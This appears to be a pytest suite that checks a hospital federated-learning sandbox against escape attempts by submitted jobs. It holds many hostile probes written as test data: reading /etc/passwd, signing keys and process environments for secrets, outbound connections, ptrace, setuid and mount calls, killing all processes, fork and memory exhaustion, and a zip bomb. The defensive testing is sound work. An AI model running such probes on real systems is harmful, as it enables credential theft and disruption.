"""Escapes from the cage by code that a hospital has approved; every text passes this policy.

A job proves that something worked in the weights that it returns. What only reads is tried outside
first, where it must work: so a probe that fails does so because of the cage.
"""

from __future__ import annotations

import itertools
import os
import signal
import socket
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import numpy as np
import pytest

from datasites.catalogue import is_intact
from federation.errors import RefusedError
from federation.job import Job
from federation.submission import Study
from tests.attacks.conftest import SECRET
from tests.attacks.jobs import HONEST, job, probe
from tests.attacks.victim import Victim

ROUNDS = itertools.count(1)


def proof(victim: Victim, text: str, rounds: int = 1) -> np.ndarray:
    """What a job proved in its last run: it must have come to its end."""
    study = victim.submit(text)
    for n in range(1, rounds + 1):
        weights = victim.run(study, round_number=n).weights["w"]
        assert weights[3] == 1
    return weights


def failed(victim: Victim, body: str) -> tuple[str, float]:
    """How a job that must not come to its end was ended, and after how long."""
    study, started = victim.submit(job(body)), time.monotonic()
    (finding,) = victim.refused(study).findings
    assert finding.rule == "run.failed"
    return finding.seen.rsplit(" ", 1)[1], time.monotonic() - started


@pytest.fixture(scope="module")
def honest(open_house: Victim) -> Study:
    """An approved job of mallory, who attacks nobody here."""
    text = job(HONEST)
    return open_house.hospital.submit(open_house.mallory_federation, text, runs=1000)


@pytest.fixture(autouse=True)
def _cage_goes_on(open_house: Victim, honest: Study) -> Iterator[None]:
    """After each attack an honest job of somebody else runs, in little time."""
    yield
    started = time.monotonic()
    update = open_house.run(honest, round_number=next(ROUNDS))
    np.testing.assert_array_equal(update.weights["w"], [0, 1, 2, 3])
    assert time.monotonic() - started < 10  # a new cage takes a few seconds


# --- files, secrets, network --------------------------------------------------------------------

READING = {
    "a system file": 'w[0] = len(open("/etc/passwd").read()) > 0',
    "the site's state": 'w[0] = len(os.listdir("{state}")) > 0',
    "the site's records": 'w[0] = open("{state}/site.db", "rb").read(6) == b"SQLite"',
    "the accounts' keys": 'w[0] = open("{state}/datasite.db", "rb").read(6) == b"SQLite"',
    "the site's identity": 'w[0] = "key" in open("{state}/identity.json").read()',
    "the signing key": 'w[0] = len(open("{state}/keys/site_key").read()) > 0',
    "the audit log": 'w[0] = len(open("{state}/audit.jsonl").read()) > 0',
    "all datasets": 'w[0] = len(os.listdir("{state}/datasets")) > 0',
    "this project": 'w[0] = len(open("{project}/datasites/syft_gate.py").read()) > 0',
    "the secrets in the environment": 'w[0] = "{secret}" in os.environ',
    "the environment of all processes": """
for pid in os.listdir("/proc"):
    try:
        w[0] += b"{secret}" in open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        pass
""",
    "the site's process": "os.kill({process}, 0); w[0] = 1",
    "the site's memory": 'w[0] = len(open("/proc/{process}/maps").read()) > 0',
    "the site's port": 'socket.create_connection(("127.0.0.1", {port}), timeout=2); w[0] = 1',
    "the control socket": """
with socket.socket(socket.AF_UNIX) as control:
    control.connect("{state}/control.sock")
    w[0] = 1
""",
    "a socket without a file": """
with socket.socket(socket.AF_UNIX) as other:
    other.connect("\\0sitegate-attack-{port}")
    w[0] = 1
""",
    "a file by way of the process's root": 'w[0] = len(open("/proc/self/root/etc/passwd").read())',
    "a file by way of a link": """
link = f"link-{os.getpid()}"
os.symlink("{state}/keys/site_key", link)
try:
    w[0] = len(open(link).read())
finally:
    os.unlink(link)
""",
    "the machine's network cards": """
w[0] = sum(not line.split(":")[0].strip() == "lo" for line in open("/proc/net/dev").readlines()[2:])
""",
}


@pytest.mark.filterwarnings("ignore::ResourceWarning")  # the probes close nothing
@pytest.mark.parametrize("what", READING)
def test_a_job_cannot_reach(open_house, what):
    facts = {
        "state": open_house.state,
        "project": Path(__file__).parents[2],
        "secret": SECRET,
        "process": open_house.process(),
        "port": open_house.trial.site.config.port,
    }
    body = READING[what]
    for name, value in facts.items():
        body = body.replace(f"{{{name}}}", str(value))
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"\0sitegate-attack-{facts['port']}")
        listener.listen()
        outside = Job(probe(body), "job", "train").call("train", None, None, None)
        assert outside["weights"]["w"][0] >= 1, "the probe does not even work outside"
        assert proof(open_house, probe(body))[0] == 0


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            'socket.getaddrinfo("example.com", 80); w[0] = 1', id="a name is not resolved"
        ),
        pytest.param(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            's.sendto(b"pixels", ("192.0.2.1", 53)); w[0] = 1',
            id="no packet leaves",
        ),
        pytest.param(
            "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); w[0] = 1",
            id="no raw socket",
        ),
        pytest.param(
            'socket.create_connection(("192.0.2.1", 80), timeout=2); w[0] = 1',
            id="no connection to elsewhere",
        ),
    ],
)
def test_nothing_goes_out_over_the_network(open_house, body):
    assert proof(open_house, probe(body))[0] == 0


@pytest.mark.parametrize(
    "body",
    [
        pytest.param('open("/data/left", "w").write("x"); w[0] = 1', id="a new file"),
        pytest.param('open("/data/train_images.npy", "r+b").write(b"x"); w[0] = 1', id="pixels"),
        pytest.param('os.chmod("/data/train_images.npy", 0o600); w[0] = 1', id="rights"),
        pytest.param('os.unlink("/data/card.json"); w[0] = 1', id="the card"),
        pytest.param('os.rename("/data/card.json", "/data/x"); w[0] = 1', id="names"),
        pytest.param('os.utime("/data/card.json"); w[0] = 1', id="times"),
        pytest.param('open("/worker.py", "a").write("x"); w[0] = 1', id="the worker"),
        pytest.param('open("/left", "w").write("x"); w[0] = 1', id="the root"),
        pytest.param('open("/dev/shm/left", "w").write("x"); w[0] = 1', id="shared memory"),
        pytest.param('open("/usr/left", "w").write("x"); w[0] = 1', id="the system"),
        pytest.param(
            'import sys; open(sys.prefix + "/pyvenv.cfg", "a").write("x"); w[0] = 1', id="libraries"
        ),
        pytest.param('data.arrays("train")[0][0] = 0; w[0] = 1', id="the mapped array"),
    ],
)
def test_nothing_that_a_cage_shares_can_be_written(open_house, body):
    text = probe(body).replace("except OSError", "except (OSError, ValueError)")
    text = text.replace("error.errno or -1", "-1")
    weights = proof(open_house, text)
    assert (weights[0], weights[1]) == (0, -1)
    assert is_intact(open_house.trial.site.datasets, open_house.hospital.version)


# --- other processes ----------------------------------------------------------------------------


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP])
def test_a_job_that_signals_the_cages_first_process_does_not_stop_it(open_house, number):
    body = f"import time\nos.kill(1, {int(number)})\ntime.sleep(0.2)"
    assert proof(open_house, probe(body))[1] == 0


def test_a_job_that_signals_everybody_hits_nobody(open_house):
    before = open_house.process()
    weights = proof(open_house, probe(f"os.kill(-1, {int(signal.SIGKILL)}); w[0] = 1"))
    assert weights[0] == 0  # there is nobody else
    assert open_house.trial._process.poll() is None
    assert open_house.process() == before


@pytest.mark.parametrize("file", ["mem", "environ", "maps", "fd/0", "fd/1", "root/etc", "cwd"])
def test_a_job_cannot_look_into_the_cages_first_process(open_house, file):
    action = "os.listdir" if file in ("root/etc", "cwd") else "open"
    body = f'{action}("/proc/1/{file}")\nw[0] = 1'
    assert tuple(proof(open_house, probe(body))[:2]) == (0, 13)  # EACCES


@pytest.mark.parametrize(
    "call",
    [
        pytest.param("c.ptrace(16, 1, 0, 0)", id="PTRACE_ATTACH"),
        pytest.param("c.ptrace(16902, 1, 0, 0)", id="PTRACE_SEIZE"),
        pytest.param("c.syscall(438, c.syscall(434, 1, 0), 1, 0)", id="pidfd_getfd"),
        pytest.param('c.mount(b"none", b"/scratch", b"tmpfs", 0, None)', id="mount"),
        pytest.param('c.umount(b"/data")', id="umount"),
        pytest.param("c.setuid(0)", id="setuid"),
        pytest.param("c.shmget(1, 4096, 512)", id="shared memory"),
        pytest.param("c.mq_open(b'/x', 64, 384, None)", id="message queue"),
        pytest.param('c.mknod(b"/scratch/disk", 0o60600, 0x800)', id="a disk's device"),
        pytest.param('c.link(b"/data/card.json", b"/scratch/card.json")', id="hard link"),
        pytest.param('c.chroot(b"/scratch")', id="chroot"),
        pytest.param("c.reboot(0x1234567)", id="reboot"),
        pytest.param("c.setns(3, 0)", id="setns"),
        pytest.param('c.sethostname(b"owned", 5)', id="sethostname"),
    ],
)  # fmt: skip
def test_the_kernel_refuses_a_job(open_house, call):
    body = f"import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nw[0] = {call} >= 0"
    assert proof(open_house, probe(body))[0] == 0


def test_a_job_sees_no_process_but_its_own_cage(open_house):
    body = 'w[0] = len([p for p in os.listdir("/proc") if p.isdigit()])'
    assert proof(open_house, probe(body))[0] == 2  # the worker and the run


def test_a_program_that_a_job_starts_has_the_same_walls(open_house):
    """Starting programs is not the danger; what they can reach is."""
    body = """
    import subprocess, sys
    reach = 'import os, sys; sys.exit(os.path.exists("{state}") or os.path.exists("/etc/passwd"))'
    w[0] = subprocess.run([sys.executable, "-I", "-c", reach]).returncode
    w[1] = subprocess.run([sys.executable, "-I", "-c", "import sys; sys.exit(7)"]).returncode
    """.replace("{state}", str(open_house.state))
    assert tuple(proof(open_house, probe(body))[:2]) == (0, 7)


def test_a_job_finds_nothing_of_this_project_or_of_syft(open_house):
    body = """
    import subprocess, sys
    for name in ("datasites.keys", "policies.document", "federation.sites", "syft.types.uid"):
        w[0] += subprocess.run([sys.executable, "-c", f"import {name}"]).returncode == 0
    w[1] = subprocess.run([sys.executable, "-c", "import numpy"]).returncode
    """
    assert tuple(proof(open_house, probe(body))[:2]) == (0, 0)


# --- what one run leaves for the next -----------------------------------------------------------

LEAVING = {
    "a file in /scratch": """
        w[0] = os.path.exists("/scratch/left")
        open("/scratch/left", "w").write("x")
    """,
    "a folder in /scratch that nobody may list": """
        w[0] = os.path.exists("/scratch/locked")
        if not w[0]:
            os.mkdir("/scratch/locked")
            open("/scratch/locked/left", "w").write("x")
            os.chmod("/scratch/locked", 0)
    """,
    "a folder in /scratch that nobody may change": """
        w[0] = os.path.exists("/scratch/sealed/left")
        if not w[0]:
            os.mkdir("/scratch/sealed")
            open("/scratch/sealed/left", "w").write("x")
            os.chmod("/scratch/sealed", 0o500)
    """,
    "a file in /dev/shm": """
        w[0] = os.path.exists("/dev/shm/left")
        open("/dev/shm/left", "w").write("x")
    """,
    "a file in /dev": """
        w[0] = os.path.exists("/dev/left")
        open("/dev/left", "w").write("x")
    """,
    "a System V memory segment": """
        import ctypes
        c = ctypes.CDLL(None)
        w[0] = c.shmget(4242, 4096, 0) >= 0
        c.shmget(4242, 4096, 0o1666)
    """,
    "a System V message queue": """
        import ctypes
        c = ctypes.CDLL(None)
        w[0] = c.msgget(4242, 0) >= 0
        c.msgget(4242, 0o1666)
    """,
    "a POSIX message queue": """
        import ctypes
        c = ctypes.CDLL(None)
        w[0] = c.mq_open(b"/left", 0) >= 0
        c.mq_open(b"/left", 0o102, 0o600, None)
    """,
    "a key in the kernel's keyring": """
        import ctypes
        c = ctypes.CDLL(None)
        w[0] = c.syscall(250, 10, -4, b"user", b"left", 0) >= 0
        c.syscall(248, b"user", b"left", b"secret", 6, -4)
    """,
    "another priority of the first process": """
        w[0] = os.getpriority(os.PRIO_PROCESS, 1) == 3
        os.setpriority(os.PRIO_PROCESS, 1, 3)
    """,
    "other limits of the first process": """
        import resource
        w[0] = resource.prlimit(1, resource.RLIMIT_NOFILE)[0] == 50
        resource.prlimit(1, resource.RLIMIT_NOFILE, (50, 50))
    """,
    "a program that goes on": """
        w[0] = len([p for p in os.listdir("/proc") if p.isdigit()]) > 2
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            os.closerange(0, 100)
            import time
            time.sleep(60)
            os._exit(0)
    """,
}


@pytest.mark.parametrize("what", LEAVING)
def test_the_next_run_does_not_find(open_house, what):
    """Rita's run may have left it for mallory's, and both for a sum of small leaks."""
    assert proof(open_house, probe(LEAVING[what]), rounds=2)[0] == 0


# --- time, memory, output -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("while True:\n    pass", id="spinning"),
        pytest.param("import time\ntime.sleep(600)", id="sleeping"),
        pytest.param(
            "import signal\n"
            "for number in set(range(1, 65)) - {9, 19, 32, 33}:\n"
            "    signal.signal(number, signal.SIG_IGN)\n"
            "while True:\n    pass",
            id="deaf to signals",
        ),
        pytest.param(
            "import os, time\nos.closerange(0, 100)\ntime.sleep(600)", id="without descriptors"
        ),
        pytest.param(
            "import threading, time\n"
            "for _ in range(8):\n"
            "    threading.Thread(target=time.sleep, args=(600,)).start()\n"
            "time.sleep(600)",
            id="in threads",
        ),
    ],
)
def test_a_run_ends_at_its_time_limit(open_house, body):
    kind, seconds = failed(open_house, body)
    assert kind == "TimeLimit"
    assert 1.5 < seconds < 6


def test_a_run_that_takes_too_much_memory_is_ended(open_house):
    assert failed(open_house, 'x = b"x" * (300 * 2**20)')[0] == "MemoryError"


def test_a_run_has_the_memory_that_the_policy_grants(open_house):
    """The twin of the test above: 150 of 256 MiB can be had."""
    assert proof(open_house, probe('x = b"x" * (150 * 2**20); w[0] = 1'))[0] == 1


def test_a_run_and_its_children_together_have_the_memory_of_one_run(open_house):
    """Four children with 150 MiB each, where the policy grants 256 MiB to the run."""
    body = """
    import time
    for child in range(4):
        if os.fork() == 0:
            try:
                x = b"x" * (150 * 2**20)
                time.sleep(0.5)
                os._exit(7)
            finally:
                os._exit(1)
    for child in range(4):
        w[0] += os.WEXITSTATUS(os.wait()[1]) == 7
    """
    with pytest.raises(RefusedError, match="ended with ResourceLimit"):
        proof(open_house, probe(body))


def test_a_run_has_no_more_processes_than_the_policy_grants(open_house):
    """Sixteen; thirty are tried."""
    body = """
    import time
    for child in range(30):
        if os.fork() == 0:
            time.sleep(1)
            os._exit(0)
        w[0] += 1
    """
    with pytest.raises(RefusedError, match=r"ended with (ResourceLimit|OSError)"):
        proof(open_house, probe(body))


def test_a_run_cannot_fill_the_disk(open_house):
    """All that can be written is a few megabytes of memory."""
    body = """
    with open("/scratch/large", "wb") as file:
        for megabyte in range(200):
            file.write(bytes(2**20))
            file.flush()
            w[0] = megabyte
    """
    weights = proof(open_house, probe(body))
    assert weights[0] < 64
    assert weights[1] in (27, 28)  # too large, or no space


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            'import numpy as np\nreturn {"weights": {"w": np.zeros(2 * 10**7, np.float32)}, '
            '"metrics": {"loss": 0.5}, "examples": 120}',
            id="80 MB of weights",
        ),
        pytest.param(
            'return {"weights": weights, "metrics": {str(i): 1.0 for i in range(10**5)}, '
            '"examples": 120}',
            id="100,000 metrics",
        ),
        pytest.param("import os\nwhile True:\n    os.write(3, bytes(65536))", id="without end"),
    ],
)
def test_a_gigantic_result_ends_the_run(open_house, body):
    before = open_house.peak_mb()
    assert failed(open_house, body)[0] == "OutputTooLarge"
    assert open_house.peak_mb() - before < 50


def test_a_gigantic_print_does_not_fill_the_log(open_house):
    log = open_house.state / "site.log"
    before = log.stat().st_size
    text = probe('print("x" * (50 * 2**20)); w[0] = 1')
    assert proof(open_house, text)[0] == 1
    assert log.stat().st_size - before < 200_000


@pytest.mark.parametrize(
    ("frame", "kind"),
    [
        pytest.param("b'x'", "Crashed", id="less than a frame"),
        pytest.param("struct.pack('>Q', 2**63)", "Crashed", id="an endless header"),
        pytest.param("b'\\0' * 7 + b'\\x02[]' + bytes(8)", "Crashed", id="a list for a header"),
        pytest.param("b'\\0' * 7 + b'\\x02{}' + bytes(8)", "NotAnUpdate", id="an empty header"),
    ],
)
def test_a_forged_answer_is_no_update(open_house, frame, kind):
    body = f"import os, struct\nos.write(3, {frame})\nos.kill(os.getpid(), 9)"
    assert failed(open_house, body)[0] == kind


BOMB = """
import json, os, struct
import numpy as np
np.savez_compressed("/scratch/bomb.npz", w=np.zeros(100 * 2**20, np.uint8))
packed = open("/scratch/bomb.npz", "rb").read()
"""
"""100 MB of zeros as a `.npz` of 100 kB."""


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        pytest.param(
            "head = json.dumps({'undeclared': 0, 'seconds': 0.1, 'metrics': {}, 'examples': 50})\n"
            "head = head.encode()\nsmall = packed[:100000]\n"
            "os.write(3, struct.pack('>Q', len(head)) + head + struct.pack('>Q', len(small)))\n"
            "os.write(3, small)\nos.kill(os.getpid(), 9)",
            "NotAnUpdate",
            id="in the place of arrays",
        ),
        pytest.param(
            "return {'weights': {'w': packed}, 'metrics': {}, 'examples': 50}",
            "AttributeError",
            id="as an array",
        ),
        pytest.param(
            "files = [np.load('/scratch/bomb.npz')['w'] for _ in range(30)]", "MemoryError",
            id="opened by the run",
        ),
    ],
)  # fmt: skip
def test_a_zip_bomb_opens_nowhere_but_in_the_run(open_house, body, kind):
    before = open_house.peak_mb()
    assert failed(open_house, BOMB + body)[0] == kind
    assert open_house.peak_mb() - before < 100


@pytest.mark.parametrize(
    ("body", "named"),
    [
        pytest.param('open("/etc/passwd")', "open '/etc/passwd'", id="a file"),
        pytest.param('os.listdir("/proc")', "os.listdir '/proc'", id="processes"),
        pytest.param('socket.create_connection(("192.0.2.1", 80))', "socket.", id="a connection"),
        pytest.param('socket.getaddrinfo("a.example", 80)', "socket.getaddrinfo 'a.example'",
                     id="a name"),
        pytest.param("os.kill(1, 9)", "os.kill 1 9", id="a signal"),
        pytest.param("os.fork() or os._exit(0)", "os.fork", id="a process"),
        pytest.param('os.system("true")', "os.system b'true'", id="a program"),
        pytest.param("import ctypes; ctypes.CDLL(None)", "ctypes.dlopen", id="native code"),
        pytest.param('open("/scratch/x", "w")', "open '/scratch/x'", id="the disk"),
        pytest.param('os.symlink("/a", "/scratch/b")', "os.symlink '/a' '/scratch/b'", id="a link"),
    ],
)  # fmt: skip
def test_what_a_job_tries_is_named_in_the_sites_log(open_house, body, named):
    study = open_house.submit(probe(body))
    open_house.run(study)
    run = f"run=R-{study.requests[open_house.trial.name]}/1/1"
    lines = (open_house.state / "site.log").read_text().splitlines()
    (told,) = (line for line in lines if f"{run} tried=" in line)
    assert named in told


def test_runs_of_two_researchers_at_once_do_not_meet(open_house):
    """One cage, one run at a time: the second finds nothing of the first."""
    body = """
    import time
    w[0] = len([p for p in os.listdir("/proc") if p.isdigit()]) - 2 + len(os.listdir("/scratch"))
    open("/scratch/here", "w").write("x")
    time.sleep(0.3)
    """
    studies = [
        open_house.submit(probe(body)),
        open_house.hospital.submit(open_house.mallory_federation, probe(body)),
    ]
    with ThreadPoolExecutor(2) as pool:
        updates = list(pool.map(open_house.run, studies))
    assert [u.weights["w"][0] for u in updates] == [0, 0]


def test_after_all_this_the_sites_process_is_the_one_that_was_started(open_house):
    os.kill(open_house.process(), 0)
    assert open_house.trial.verify_audit().intact
